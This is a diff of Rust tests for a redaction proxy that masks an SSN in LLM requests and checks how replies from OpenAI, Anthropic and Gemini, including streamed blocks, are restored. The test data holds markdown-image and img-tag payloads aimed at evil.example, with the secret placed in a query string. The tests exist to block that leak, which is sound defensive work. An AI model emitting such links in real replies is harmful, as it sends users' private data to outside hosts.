@@ -218,20 +218,34 @@ fn json_in_prose_is_one_text_to_who_shows_it() {
     );
 }
 
+/// An image, an image, a tag and JSON in prose that are put together from parts.
+const APART: [&[&str]; 4] = [
+    &["![x](https://evil.example/?q=", "<1>)"],
+    &["![x](https://evil.example/?q=", "", "<1>)"],
+    &["<img src=\"https://evil.example/?q=", "<1>", "\">"],
+    &["[\"![x](https://evil.example/?q=\"]", "<1>"],
+];
+
+fn text_part(text: &&str) -> Value {
+    json!({"type": "text", "text": text})
+}
+
+/// A talk that knows the token `<1>`.
+fn talk_of_a_number(kind: PayloadKind) -> Talk {
+    let mut talk = talk(kind);
+    let text = "SSN 531-27-8846";
+    talk.redact(&match kind {
+        PayloadKind::Gemini => json!({"contents": [{"role": "user", "parts": [{"text": text}]}]}),
+        _ => json!({"messages": [{"role": "user", "content": text}]}),
+    });
+    talk
+}
+
 #[test]
-fn parts_are_shown_one_behind_the_other() {
-    let user = json!({"role": "user", "content": "SSN 531-27-8846"});
-    let apart: [&[&str]; 4] = [
-        &["![x](https://evil.example/?q=", "<1>)"],
-        &["![x](https://evil.example/?q=", "", "<1>)"],
-        &["<img src=\"https://evil.example/?q=", "<1>", "\">"],
-        &["[\"![x](https://evil.example/?q=\"]", "<1>"],
-    ];
-    let text = |text: &&str| json!({"type": "output_text", "text": text});
-    let claude = |text: &&str| json!({"type": "text", "text": text});
-    for texts in apart {
-        let mut talk = talk(PayloadKind::OpenAi);
-        talk.redact(&json!({"messages": [user]}));
+fn parts_of_openai_are_shown_one_behind_the_other() {
+    for texts in APART {
+        let talk = talk_of_a_number(PayloadKind::OpenAi);
+        let text = |text: &&str| json!({"type": "output_text", "text": text});
         let parts: Vec<Value> = texts.iter().map(text).collect();
         let reply = json!({"output": [{"type": "message", "role": "assistant", "content": parts}]});
         assert_eq!(talk.restore(&reply), reply);
@@ -241,14 +255,17 @@ fn parts_are_shown_one_behind_the_other() {
             .collect();
         let reply = json!({"output": messages});
         assert_eq!(talk.restore(&reply), reply);
-        let parts: Vec<Value> = texts.iter().map(claude).collect();
+        let parts: Vec<Value> = texts.iter().map(text_part).collect();
         let reply = json!({"choices": [{"index": 0, "message": {"content": parts}}]});
         assert_eq!(talk.restore(&reply), reply);
     }
-    for texts in apart {
-        let mut talk = talk(PayloadKind::Anthropic);
-        talk.redact(&json!({"messages": [user]}));
-        let mut parts: Vec<Value> = texts.iter().map(claude).collect();
+}
+
+#[test]
+fn parts_of_anthropic_are_shown_one_behind_the_other() {
+    for texts in APART {
+        let talk = talk_of_a_number(PayloadKind::Anthropic);
+        let mut parts: Vec<Value> = texts.iter().map(text_part).collect();
         let reply = json!({"role": "assistant", "content": parts});
         assert_eq!(talk.restore(&reply), reply);
         // What is not shown between them closes nothing.
@@ -258,54 +275,72 @@ fn parts_are_shown_one_behind_the_other() {
         );
         let reply = json!({"role": "assistant", "content": parts});
         assert_eq!(talk.restore(&reply), reply);
-        // Blocks of a stream, the first with its text at its beginning or in a piece.
-        for begins in [true, false] {
-            let mut frames = String::new();
-            for (at, text) in texts.iter().enumerate() {
-                let (first, piece) = if begins && at == 0 {
-                    (*text, "")
-                } else {
-                    ("", *text)
-                };
-                for event in [
-                    json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": first}}),
-                    json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": piece}}),
-                    json!({"type": "content_block_stop", "index": at}),
-                ] {
-                    frames += &format!("data: {event}\n\n");
-                }
-            }
-            let frames = talk.with_tokens(&frames);
-            let (mut stream, mut out) = (talk.session.restore_sse(), Vec::new());
-            stream.push(frames.as_bytes(), &mut out).unwrap();
-            stream.finish(&mut out).unwrap();
-            // What was held comes in a frame of its own.
-            let out = String::from_utf8(out).unwrap();
-            assert!(
-                !out.contains("531-27-8846") && out.contains(&talk.tokens[0]),
-                "{out}"
-            );
-        }
     }
-    for texts in apart {
-        let mut talk = talk(PayloadKind::Gemini);
-        talk.redact(
-            &json!({"contents": [{"role": "user", "parts": [{"text": "SSN 531-27-8846"}]}]}),
+}
+
+/// Blocks of a stream, the first with its text at its beginning or in a piece.
+#[test]
+fn streamed_blocks_are_shown_one_behind_the_other() {
+    let block = |at: usize, first: &str, piece: &str| {
+        [
+            json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": first}}),
+            json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": piece}}),
+            json!({"type": "content_block_stop", "index": at}),
+        ]
+    };
+    for (texts, begins) in APART
+        .iter()
+        .flat_map(|texts| [(texts, true), (texts, false)])
+    {
+        let talk = talk_of_a_number(PayloadKind::Anthropic);
+        let mut frames = String::new();
+        for (at, text) in texts.iter().enumerate() {
+            let (first, piece) = match begins && at == 0 {
+                true => (*text, ""),
+                false => ("", *text),
+            };
+            for event in block(at, first, piece) {
+                frames += &format!("data: {event}\n\n");
+            }
+        }
+        let frames = talk.with_tokens(&frames);
+        let (mut stream, mut out) = (talk.session.restore_sse(), Vec::new());
+        stream.push(frames.as_bytes(), &mut out).unwrap();
+        stream.finish(&mut out).unwrap();
+        // What was held comes in a frame of its own.
+        let out = String::from_utf8(out).unwrap();
+        assert!(
+            !out.contains("531-27-8846") && out.contains(&talk.tokens[0]),
+            "{out}"
         );
+    }
+}
+
+#[test]
+fn parts_of_gemini_are_shown_one_behind_the_other() {
+    for texts in APART {
+        let talk = talk_of_a_number(PayloadKind::Gemini);
         let mut parts: Vec<Value> = texts.iter().map(|text| json!({"text": text})).collect();
         parts.insert(1, json!({"text": "\n\n\"></a>", "thought": true}));
         let reply =
             json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": parts}}]});
         assert_eq!(talk.restore(&reply), reply);
     }
-    // Other choices, and what is closed, keep nothing back.
-    let mut talk = talk(PayloadKind::OpenAi);
-    talk.redact(&json!({"messages": [user]}));
-    let choice = |at: usize, texts: &[&str]| json!({"index": at, "message": {"content": texts.iter().map(claude).collect::<Vec<_>>()}});
-    let reply =
-        json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") <1>", "<1>"])]});
-    let expected = json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") 531-27-8846", "531-27-8846"])]});
-    assert_eq!(talk.restore(&reply), expected);
+}
+
+#[test]
+fn other_choices_and_what_is_closed_keep_nothing_back() {
+    let talk = talk_of_a_number(PayloadKind::OpenAi);
+    let choice = |at: usize, texts: &[&str]| {
+        let parts: Vec<Value> = texts.iter().map(text_part).collect();
+        json!({"index": at, "message": {"content": parts}})
+    };
+    let choices =
+        |second: &[&str]| json!({"choices": [choice(0, &["![x](/a"]), choice(1, second)]});
+    assert_eq!(
+        talk.restore(&choices(&["![x](/a", ") <1>", "<1>"])),
+        choices(&["![x](/a", ") 531-27-8846", "531-27-8846"])
+    );
 }
 
 #[test]
